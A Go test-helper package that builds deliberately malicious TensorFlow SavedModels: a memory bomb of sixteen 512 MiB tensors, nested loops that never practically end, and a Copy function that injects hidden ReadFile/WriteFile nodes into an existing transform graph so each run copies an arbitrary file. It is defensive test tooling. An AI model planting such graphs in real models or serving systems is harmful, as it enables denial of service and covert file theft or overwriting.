// Package graphtest makes malicious SavedModels for tests.
package graphtest

import (
	"errors"
	"fmt"
	"strings"

	attrpb "github.com/wamuir/graft/tensorflow/core/framework/attr_value_go_proto"
	functionpb "github.com/wamuir/graft/tensorflow/core/framework/function_go_proto"
	graphpb "github.com/wamuir/graft/tensorflow/core/framework/graph_go_proto"
	nodepb "github.com/wamuir/graft/tensorflow/core/framework/node_def_go_proto"
	opdefpb "github.com/wamuir/graft/tensorflow/core/framework/op_def_go_proto"
	tensorpb "github.com/wamuir/graft/tensorflow/core/framework/tensor_go_proto"
	shapepb "github.com/wamuir/graft/tensorflow/core/framework/tensor_shape_go_proto"
	typepb "github.com/wamuir/graft/tensorflow/core/framework/types_go_proto"
	versionpb "github.com/wamuir/graft/tensorflow/core/framework/versions_go_proto"
	corepb "github.com/wamuir/graft/tensorflow/core/protobuf/for_core_protos_go_proto"
	"google.golang.org/protobuf/proto"
)

// Bomb returns the saved_model.pb of a model that adds 16 tensors of 512 MiB each. Its signature
// serving_default maps a vector of strings, examples, to scores. If started is not empty, the model
// writes that file first, by operations that compute/tf/graph does not implement: only TensorFlow
// executes it then.
func Bomb(started string) ([]byte, error) {
	g := &graph{}
	zero := g.begin(started)
	return proto.Marshal(g.saved(g.bomb(zero), typepb.DataType_DT_FLOAT))
}

// Loop is like Bomb, for a model that runs three nested loops, which would end in some thousand
// years.
func Loop(started string) ([]byte, error) {
	g := &graph{}
	zero := g.begin(started)
	return proto.Marshal(g.saved(g.loop(zero), typepb.DataType_DT_INT32))
}

// Copy adds operations to the functions of a transform graph, a saved_model.pb, that copy the file
// from to the file to. All outputs of these functions depend on the copy by a control edge, so that
// each execution of the graph copies the file first.
func Copy(data []byte, from, to string) ([]byte, error) {
	var saved corepb.SavedModel
	if err := proto.Unmarshal(data, &saved); err != nil {
		return nil, err
	}
	outputs := 0
	for _, g := range saved.MetaGraphs {
		for _, f := range g.GetGraphDef().GetLibrary().GetFunction() {
			if len(f.NodeDef) < 4 || !strings.Contains(f.Signature.Name, "transform_fn") && !strings.Contains(f.Signature.Name, "pruned") {
				continue
			}
			nodes := map[string]*nodepb.NodeDef{}
			for _, n := range f.NodeDef {
				nodes[n.Name] = n
			}
			for _, ret := range f.Ret {
				name, _, _ := strings.Cut(ret, ":")
				if n := nodes[name]; n != nil {
					n.Input = append(n.Input, "^evil_write")
					outputs++
				}
			}
			f.NodeDef = append(f.NodeDef, node("evil_from", "Const", stringAttrs(from)), node("evil_to", "Const", stringAttrs(to)),
				node("evil_read", "ReadFile", nil, "evil_from:output:0"),
				node("evil_write", "WriteFile", nil, "evil_to:output:0", "evil_read:contents:0"))
			f.ControlRet = map[string]string{"evil_write": "evil_write"}
			f.Signature.ControlOutput = append(f.Signature.ControlOutput, "evil_write")
			f.Signature.IsStateful = true
		}
	}
	if outputs == 0 {
		return nil, errors.New("no function of a transform graph")
	}
	return proto.Marshal(&saved)
}

// begin adds the input, and returns a node that is 0 after the file started is written.
func (g *graph) begin(started string) (zero string) {
	g.add("x", "Placeholder", map[string]any{"dtype": typepb.DataType_DT_STRING, "shape": shapeOf(-1)})
	if started == "" {
		return g.add("zero", "Const", int32Attrs(0))
	}
	write := g.add("write", "WriteFile", nil, g.add("path", "Const", stringAttrs(started)), g.add("text", "Const", stringAttrs("x")))
	length := g.add("length", "StringLength", nil, g.add("read", "ReadFile", nil, "path", "^"+write))
	return g.add("zeroed", "FloorDiv", map[string]any{"T": typepb.DataType_DT_INT32}, length, g.add("nine", "Const", int32Attrs(9)))
}

// graph is a graph under construction.
type graph struct {
	nodes   []*nodepb.NodeDef
	library []*functionpb.FunctionDef
}

func (g *graph) add(name, op string, attrs map[string]any, inputs ...string) string {
	g.nodes = append(g.nodes, node(name, op, attrs, inputs...))
	return name
}

// bomb adds 16 tensors of 512 MiB.
func (g *graph) bomb(zero string) (output string) {
	float, integer := typepb.DataType_DT_FLOAT, typepb.DataType_DT_INT32
	size := g.add("size", "AddV2", map[string]any{"T": integer}, g.add("large", "Const", int32Attrs(1<<27)), zero)
	dims := g.add("dims", "ExpandDims", map[string]any{"T": integer, "Tdim": integer}, size, g.add("axis", "Const", int32Attrs(0)))
	var all []string
	for i := range 16 { // with different values: TensorFlow computes equal tensors once
		tensor := &tensorpb.TensorProto{Dtype: float, TensorShape: shapeOf(), FloatVal: []float32{float32(i)}}
		value := g.add(fmt.Sprint("v", i), "Const", map[string]any{"dtype": float, "value": tensor})
		all = append(all, g.add(fmt.Sprint("f", i), "Fill", map[string]any{"T": float, "index_type": integer}, dims, value))
	}
	g.add("sum", "AddN", map[string]any{"T": float, "N": int64(len(all))}, all...)
	g.add("max", "Max", map[string]any{"T": float, "Tidx": integer, "keep_dims": false}, "sum", "axis")
	return g.add("out", "ExpandDims", map[string]any{"T": float, "Tdim": integer}, "max", "axis") + ":0"
}

// loop adds three nested loops that would end in some thousand years.
func (g *graph) loop(zero string) (output string) {
	const n = 1 << 23
	integer := typepb.DataType_DT_INT32
	typed := map[string]any{"T": integer}
	function := func(name, result string, out typepb.DataType, nodes ...*nodepb.NodeDef) {
		g.library = append(g.library, &functionpb.FunctionDef{
			Signature: &opdefpb.OpDef{
				Name: name, InputArg: []*opdefpb.OpDef_ArgDef{{Name: "i", Type: integer}}, OutputArg: []*opdefpb.OpDef_ArgDef{{Name: "y", Type: out}},
			},
			NodeDef: nodes, Ret: map[string]string{"y": result},
		})
	}
	while := func(body string) map[string]any {
		return map[string]any{"cond": functionName("less"), "body": functionName(body), "T": []typepb.DataType{integer}, "_lower_using_switch_merge": true}
	}
	function("less", "l:z:0", typepb.DataType_DT_BOOL, node("n", "Const", int32Attrs(n)), node("l", "Less", typed, "i", "n:output:0"))
	function("body0", "a:z:0", integer, node("one", "Const", int32Attrs(1)), node("a", "AddV2", typed, "i", "one:output:0"))
	for depth := range 2 {
		function(fmt.Sprint("body", depth+1), "a:z:0", integer, node("zero", "Const", int32Attrs(0)), node("n", "Const", int32Attrs(n)),
			node("w", "StatelessWhile", while(fmt.Sprint("body", depth)), "zero:output:0"),
			node("d", "FloorDiv", typed, "w:output:0", "n:output:0"), node("a", "AddV2", typed, "i", "d:z:0"))
	}
	g.add("while", "StatelessWhile", while("body2"), zero)
	return g.add("out", "ExpandDims", map[string]any{"T": integer, "Tdim": integer}, "while", g.add("first", "Const", int32Attrs(0))) + ":0"
}

// saved has one signature, from x to scores.
func (g *graph) saved(output string, dtype typepb.DataType) *corepb.SavedModel {
	tensor := func(name string, dtype typepb.DataType) *corepb.TensorInfo {
		return &corepb.TensorInfo{Encoding: &corepb.TensorInfo_Name{Name: name}, Dtype: dtype, TensorShape: shapeOf(-1)}
	}
	return &corepb.SavedModel{SavedModelSchemaVersion: 1, MetaGraphs: []*corepb.MetaGraphDef{{
		MetaInfoDef: &corepb.MetaGraphDef_MetaInfoDef{Tags: []string{"serve"}},
		GraphDef:    &graphpb.GraphDef{Node: g.nodes, Library: &functionpb.FunctionDefLibrary{Function: g.library}, Versions: &versionpb.VersionDef{Producer: 1882}},
		SignatureDef: map[string]*corepb.SignatureDef{"serving_default": {
			MethodName: "tensorflow/serving/predict",
			Inputs:     map[string]*corepb.TensorInfo{"examples": tensor("x:0", typepb.DataType_DT_STRING)},
			Outputs:    map[string]*corepb.TensorInfo{"scores": tensor(output, dtype)},
		}},
	}}}
}

func node(name, op string, attrs map[string]any, inputs ...string) *nodepb.NodeDef {
	n := &nodepb.NodeDef{Name: name, Op: op, Input: inputs, Attr: map[string]*attrpb.AttrValue{}}
	for key, value := range attrs {
		a := &attrpb.AttrValue{}
		switch value := value.(type) {
		case typepb.DataType:
			a.Value = &attrpb.AttrValue_Type{Type: value}
		case []typepb.DataType:
			a.Value = &attrpb.AttrValue_List{List: &attrpb.AttrValue_ListValue{Type: value}}
		case *shapepb.TensorShapeProto:
			a.Value = &attrpb.AttrValue_Shape{Shape: value}
		case *tensorpb.TensorProto:
			a.Value = &attrpb.AttrValue_Tensor{Tensor: value}
		case functionName:
			a.Value = &attrpb.AttrValue_Func{Func: &attrpb.NameAttrList{Name: string(value)}}
		case int64:
			a.Value = &attrpb.AttrValue_I{I: value}
		case bool:
			a.Value = &attrpb.AttrValue_B{B: value}
		}
		n.Attr[key] = a
	}
	return n
}

type functionName string

func int32Attrs(v int32) map[string]any {
	integer := typepb.DataType_DT_INT32
	return map[string]any{"dtype": integer, "value": &tensorpb.TensorProto{Dtype: integer, TensorShape: shapeOf(), IntVal: []int32{v}}}
}

func stringAttrs(v string) map[string]any {
	text := typepb.DataType_DT_STRING
	return map[string]any{"dtype": text, "value": &tensorpb.TensorProto{Dtype: text, TensorShape: shapeOf(), StringVal: [][]byte{[]byte(v)}}}
}

func shapeOf(dims ...int64) *shapepb.TensorShapeProto {
	s := &shapepb.TensorShapeProto{}
	for _, d := range dims {
		s.Dim = append(s.Dim, &shapepb.TensorShapeProto_Dim{Size: d})
	}
	return s
}
